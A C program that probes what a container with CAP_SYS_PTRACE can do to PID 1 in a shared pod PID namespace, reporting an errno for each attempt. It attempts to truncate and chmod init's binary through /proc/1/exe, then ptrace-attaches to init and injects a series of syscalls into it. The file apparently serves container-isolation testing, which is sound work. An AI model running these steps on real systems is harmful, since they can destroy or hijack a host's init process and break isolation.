/* What a container with CAP_SYS_PTRACE can do with the init of its pod's shared PID namespace. Prints a line for each
 * attempt: what was tried, and the errno that came of it, 0 for success. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static void tell(const char *attempt, long result) { printf("%s %ld\n", attempt, result < 0 ? (long)errno : 0); }

/* Has the stopped init, which waits in a call, make another one: its instruction is the two bytes before. */
static void inject(const char *attempt, const struct user_regs_struct *before, long number, unsigned long first,
                   unsigned long second) {
  struct user_regs_struct registers = *before;
  registers.rip -= 2;
  registers.rax = (unsigned long)number;
  registers.orig_rax = (unsigned long)-1;
  registers.rdi = first;
  registers.rsi = second;
  registers.rdx = registers.r10 = registers.r8 = 0;
  if (ptrace(PTRACE_SETREGS, 1, NULL, &registers) != 0 || ptrace(PTRACE_SINGLESTEP, 1, NULL, NULL) != 0 ||
      waitpid(1, NULL, __WALL) != 1 || ptrace(PTRACE_GETREGS, 1, NULL, &registers) != 0) {
    printf("%s: ptrace: %s\n", attempt, strerror(errno));
    return;
  }
  long result = (long)registers.rax;
  printf("%s %ld\n", attempt, result < 0 ? -result : 0);
}

int main(void) {
  char program[256] = "";
  if (readlink("/proc/1/exe", program, sizeof program - 1) < 0) strcpy(program, strerror(errno));
  printf("runs %s\n", program);
  tell("write", open("/proc/1/exe", O_WRONLY));
  tell("truncate", truncate("/proc/1/exe", 0));
  int fd = open("/proc/1/exe", O_RDONLY);
  tell("read", fd);
  struct stat status;
  printf("links %lu\n", fstat(fd, &status) == 0 ? (unsigned long)status.st_nlink : 99);
  printf("seals %d\n", fcntl(fd, F_GET_SEALS) & (F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE));
  fchmod(fd, 0); /* Linux 6.3 refuses it */

  struct user_regs_struct before;
  tell("trace", ptrace(PTRACE_ATTACH, 1, NULL, NULL));
  if (waitpid(1, NULL, __WALL) != 1 || ptrace(PTRACE_GETREGS, 1, NULL, &before) != 0) return 1;
  inject("getpid", &before, SYS_getpid, 0, 0);
  inject("keyctl", &before, SYS_keyctl, 0, (unsigned long)-4);
  inject("add_key", &before, SYS_add_key, 0, 0);
  inject("unshare_user", &before, SYS_unshare, CLONE_NEWUSER, 0);
  inject("socket", &before, SYS_socket, 1, 1);
  inject("open", &before, SYS_open, before.rsp, O_RDONLY);
  inject("mmap", &before, SYS_mmap, 0, 4096);
  inject("fork", &before, SYS_fork, 0, 0);
  inject("getpid_x32", &before, SYS_getpid | 0x40000000, 0, 0);
  ptrace(PTRACE_SETREGS, 1, NULL, &before);
  tell("detach", ptrace(PTRACE_DETACH, 1, NULL, NULL));
  return 0;
}
